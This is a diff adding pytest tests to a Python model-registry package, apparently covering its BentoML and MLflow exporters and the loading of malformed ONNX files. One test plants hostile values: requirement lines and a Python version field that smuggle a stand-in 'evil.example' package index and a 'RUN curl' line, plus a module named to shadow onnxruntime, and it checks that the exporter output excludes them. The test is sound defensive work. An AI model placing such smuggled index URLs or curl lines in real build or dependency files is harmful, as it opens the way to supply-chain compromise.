@@ -6,6 +6,7 @@ import json
 import signal
 import sys
 import time
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -19,8 +20,15 @@ from sklearn.linear_model import LogisticRegression
 from gitops_registry import cage, paths
 from gitops_registry.child import talk
 from gitops_registry.claims import contradicted_slices
-from gitops_registry.manifest.facts import Evaluation, EvaluationData, Person, Version
+from gitops_registry.errors import RegistryError
+from gitops_registry.exports import TARGETS
+from gitops_registry.exports.subject import Subject
+from gitops_registry.formats import open_model
+from gitops_registry.formats.loaded import Trust
+from gitops_registry.manifest.columns import Column, Parameter, Signature
+from gitops_registry.manifest.facts import Artifact, Environment, Evaluation, EvaluationData, Person, Version
 from gitops_registry.manifest.figures import Group, Slice
+from gitops_registry.manifest.kinds import Card
 from gitops_registry.manifest.writing import dump
 from gitops_registry.pointer import pointer
 from gitops_registry.policy.facts import by_group
@@ -268,3 +276,80 @@ def test_a_measurement_that_nobody_made_is_measured_again_with_its_groups(world:
 def test_a_metric_that_is_called_rows_is_no_number_of_rows() -> None:
     told = by_group([[Slice(column="side", groups=(Group(value="left", rows=3, metrics={"rows": 1e9}),))]])
     assert told["side"]["left"]["rows"] == 3.0
+
+
+# ── exports of a version that lies
+
+
+EVIL = "https://evil.example/simple"
+
+
+def subject(world: World, folder: Path, example: bytes | None = None, **changes: Any) -> Subject:
+    """Return what an exporter is given of toy@1; `changes` are fields of its version.yaml."""
+    version = version_of(world)
+    world.registry.pull("toy", 1, to=folder)
+    files = {a.name: folder / a.file for a in version.artifacts}
+    if example is not None:
+        files["input_example"] = folder / "input_example.json"
+        files["input_example"].write_bytes(example)
+        told = Artifact(name="input_example", file="input_example.json", format="json", size=9, md5="0" * 32, sha256="0" * 64)  # fmt: skip
+        changes["artifacts"] = (*version.artifacts, told)
+    return Subject(RIGHT, version.model_copy(update=changes), Card(), "# toy\n", files)
+
+
+def written(folder: Path) -> bytes:
+    return b"".join(file.read_bytes() for file in sorted(folder.rglob("*")) if file.is_file())
+
+
+@pytest.mark.parametrize("target", ["bentoml", "mlflow"])
+def test_neither_pins_nor_file_names_of_a_version_say_what_an_export_installs_or_imports(
+    base: World, tmp_path: Path, target: str
+) -> None:
+    lines = (f"onnxruntime==1.0\n--index-url {EVIL}", f"numpy==1.0 --find-links {EVIL}", f"pandas==2.0 @ {EVIL}")
+    module = next(a for a in version_of(base).artifacts if a.format == "onnx").model_copy(
+        update={"file": "onnxruntime.py"}
+    )
+    hostile = Environment(python=f"3.11\nRUN curl {EVIL}", platform="x", requirements=lines)
+    given = subject(base, tmp_path / "in", environment=hostile)
+    (tmp_path / "in/onnxruntime.py").write_bytes(given.files["onnx"].read_bytes())
+    given.files["onnx"] = tmp_path / "in/onnxruntime.py"  # type: ignore[index]
+    given = replace(given, version=given.version.model_copy(update={"artifacts": (module,)}))
+    TARGETS[target].write(given, tmp_path / "out")
+    assert EVIL.encode() not in written(tmp_path / "out")
+    assert {f.name for f in (tmp_path / "out").rglob("*.py")} <= {"registered_model.py", "registered_service.py"}
+
+
+def test_a_bento_that_cannot_be_built_leaves_this_process_where_it_was(base: World, tmp_path: Path) -> None:
+    inputs = (Column(name="a", type="double", minimum=10**400), Column(name="b", type="double"))
+    here, imports = Path.cwd(), list(sys.path)
+    with pytest.raises(RegistryError, match="BentoML cannot build"):
+        TARGETS["bentoml"].write(subject(base, tmp_path / "in", signature=Signature(inputs=inputs)), tmp_path / "out")
+    assert (Path.cwd(), sys.path) == (here, imports)
+
+
+def test_a_signature_that_a_target_has_no_words_for_is_one_line(base: World, tmp_path: Path) -> None:
+    columns = tuple(Column(name=name, type="double") for name in "ab")
+    odd = Signature(inputs=columns, parameters=(Parameter(name="key", type="binary"),))
+    with pytest.raises(RegistryError, match="MLflow has no words for the signature of toy@1"):
+        TARGETS["mlflow"].write(subject(base, tmp_path / "in", signature=odd), tmp_path / "out")
+
+
+@pytest.mark.parametrize("example", [b"[" * 50_000, b'{"columns": 5, "data": 1}', b"3", b"\xff", b"[[NaN, 1e999]]"])
+def test_an_example_that_is_nonsense_keeps_nobody_from_exporting(base: World, tmp_path: Path, example: bytes) -> None:
+    TARGETS["mlflow"].write(subject(base, tmp_path / "in", example), tmp_path / "out")
+    assert (tmp_path / "out/MLmodel").is_file()
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [("labels", "[[0], [1]]"), ("labels", "5"), ("labels", '["\\ud800", 1]'), ("labels", "[NaN, 1]"), ("columns", "3"), ("columns", '[{"a": 1}]'), ("columns", "[" * 50_000)],
+)  # fmt: skip
+def test_a_graph_whose_own_words_are_nonsense_is_not_opened(base: World, tmp_path: Path, key: str, value: str) -> None:
+    import onnx
+
+    graph = onnx.load(base.registry.pull("toy", 1, to=tmp_path)[1])
+    for one in graph.metadata_props:
+        one.value = value if one.key == f"gitops_registry.{key}" else one.value
+    onnx.save(graph, tmp_path / "odd.onnx")
+    with pytest.raises(RegistryError, match=r"odd\.onnx is not a readable ONNX model"):
+        open_model("onnx", tmp_path / "odd.onnx", trust=Trust())
